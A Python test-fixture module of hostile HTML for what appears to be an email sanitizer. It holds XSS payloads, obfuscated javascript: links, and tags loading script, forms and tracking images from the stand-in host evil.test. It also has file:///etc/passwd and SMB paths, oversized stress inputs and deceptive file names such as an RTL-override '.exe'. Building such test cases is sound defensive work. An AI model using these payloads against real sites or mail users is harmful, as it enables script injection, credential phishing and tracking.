"""Hostile markup: each payload alone, and in what mail programs would put around it."""

from itertools import product

_CODE = (
    "<script>alert(1)</script>", "<script src=//evil.test/x.js></script>", "<svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>", "<body onload=alert(1)>", "<iframe src=http://evil.test></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=http://evil.test/x>",
    "<embed src=http://evil.test/x.swf>", "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form action=http://evil.test><input name=p><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.test'>", "<base href=http://evil.test/>",
    "<link rel=stylesheet href=http://evil.test/x.css>", "<style>@import url(http://evil.test/x)</style>",
    "<video src=http://evil.test/v><source src=http://evil.test/w></video>",
    "<audio src=http://evil.test/a autoplay>", "<svg><image href=http://evil.test/i.png /></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>", "<xmp><script>alert(1)</script></xmp>",
    "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<isindex action=javascript:x>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<scr<script>ipt>alert(1)</script>",
    "<img \x00src=x onerror\x00=alert(1)>", "<<script>alert(1)//<</script>", "<plaintext><b>x",
    "<select><style></select><img src=x onerror=alert(1)></style>",
)  # fmt: skip
_PICTURES = (
    "<img src=http://evil.test/p.png>", "<img src=//evil.test/p.png>", "<img src=file:///etc/passwd>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>", "<img srcset='http://evil.test/a 1x' alt=a>",
    "<img src=cid:logo alt=logo>", "<table background=http://evil.test/b><tr><td>x</table>",
    "<div style='background:url(http://evil.test/c)'>x</div>", "<img lowsrc=http://evil.test/l>",
    "<p style=\"background-image:\\75rl('http://evil.test/d')\">x</p>", "<img src='\\\\evil.test\\share'>",
)  # fmt: skip
_LINKS = tuple(
    f"<a href={quote}{href}{quote}>click</a>"
    for quote in ("'", '"')
    for href in (
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
        "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "vbscript:x", "file:///etc/passwd",
        "data:text/html,<script>1</script>", "//evil.test/x", "/relative", "smb://evil.test/x",
        "ms-msdt:/id", "parley://ticket/1", "view-source:http://x", "jar:http://x!/", "about:blank",
        "blob:http://x/1", "x:y", "\\\\evil.test\\x",
    )
)  # fmt: skip
_AROUND = (
    "{}", "<p>Hello,</p>{}<p>Regards</p>", "<table><tr><td>{}</td></tr></table>",
    "<blockquote><div>{}</div></blockquote>", "<ul><li>{}</ul>",
)  # fmt: skip
PAYLOADS = tuple(
    around.format(payload) for around, payload in product(_AROUND, (*_CODE, *_PICTURES, *_LINKS))
)
HEAVY = {
    "deep": "<div>" * 20_000 + "x",
    "deep in tables": "<table><tr><td>" * 3_000 + "x",
    "deep formats": "<b><i><u>" * 10_000 + "x",
    "deep, others closed": "<div></p></b>" * 10_000 + "x",
    "wide": "<p>x</p>" * 20_000,
    "attributes": "<a " + " ".join(f"a{n}" for n in range(30_000)) + ">x</a>",
    "long value": "<a href='http://x.test/" + "y" * 150_000 + "'>x</a>",
    "entities": "&amp;" * 39_000,
    "less than": "<" * 190_000,
    "comments": "<!--" * 40_000,
    "one word": "W" * 190_000,
    "links": "<a href=http://x.test>y</a> " * 6_000,
    "rows": "<table>" + "<tr><td>a<td>b<td>c" * 8_000 + "</table>",
    "too long": "x" * 200_001,
}
NAMES = (
    "<b>Bold</b>", "<img src=http://evil.test/p.png>", "<a href='http://evil.test'>x</a>",
    "evil\u202egnp.exe", "\u2066\u2067\u2068x", "&lt;script&gt;", "{name}", "%s%n", "a\nb\tc",
    "W" * 300, "\u0000null", "ﷺ" * 60, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A" * 20,
)  # fmt: skip
